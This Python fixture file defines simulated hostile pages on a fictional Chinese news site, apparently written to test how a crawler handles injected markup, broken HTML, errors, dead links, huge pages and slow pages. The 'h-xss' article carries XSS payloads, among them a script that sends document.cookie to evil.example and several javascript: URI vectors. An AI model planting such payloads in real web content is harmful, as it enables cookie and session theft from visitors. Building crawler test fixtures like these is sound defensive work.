"""Pages on 江城晚报网 that exist to hurt crawlers: injected markup, broken HTML, flaky 500s, a dead link, a 3 MB page
and a slow page. All are old (days before the scenario) so they sit on the later list pages, away from the
scenario-critical path, but a crawler walking the list meets every one of them.
"""

from __future__ import annotations

from sim.model import HOSTILE, Article, at

ARTICLES: list[Article] = [
    Article(
        key="h-xss", offset=at(days=-1, hours=-1), truth=HOSTILE, kind="xss", channel="社会", layout=0,
        title='网友热议<script>alert(1)</script>“江城最美街道”评选<img src=x onerror="alert(2)">',
        body=(
            "江城“最美街道”评选进入网络投票阶段，<script>document.location='http://evil.example/?c='+document.cookie"
            "</script>新华路、中南路等12条街道入围。",
            '有网友留言：<iframe src="javascript:alert(3)"></iframe>“家门口的路变美了，出门心情都好。”'
            '<a href="javascript:alert(4)">点击投票</a>',
            "评选结果将于下月公布。</div></body></html><div class=\"article-content\">伪造的正文</div>",
        ),
    ),
    Article(
        key="h-malformed", offset=at(days=-1, hours=-6), truth=HOSTILE, kind="malformed", channel="社会",
        title="江城冬季供暖试点扩大至三个片区",
        body=(
            "记者从市住建部门获悉，今冬集中供暖试点范围扩大至滨江、科技园和大学城三个片区，",
            "涉及居民约4.2万户。供暖费用按建筑面积收取，具体标准",
        ),
    ),
    Article(
        key="h-flaky", offset=at(days=-2, hours=-1), truth=HOSTILE, kind="flaky", channel="社会", layout=1,
        title="江城地铁12号线首段试运行",
        body=("江城地铁12号线首段{date}起开始空载试运行，预计明年上半年开通初期运营。",),
    ),
    Article(
        key="h-missing", offset=at(days=-2, hours=-4), truth=HOSTILE, kind="missing", channel="社会",
        title="（该稿件已删除）江城某小区业主维权", body=(),
    ),
    Article(
        key="h-huge", offset=at(days=-3, hours=-2), truth=HOSTILE, kind="huge", channel="政务", layout=1,
        title="江城市2026年度政府采购意向公开汇总表",
        body=("为便于供应商及时了解政府采购信息，现将江城市2026年度政府采购意向汇总公开如下：",),
    ),
    Article(
        key="h-slow", offset=at(days=-4, hours=-6), truth=HOSTILE, kind="slow", channel="社会", layout=2,
        title="江城图书馆新馆试开放 周末预约已满",
        body=("江城图书馆新馆{date}起试开放，周末预约名额已全部约满，馆方提醒读者错峰前往。",),
    ),
]
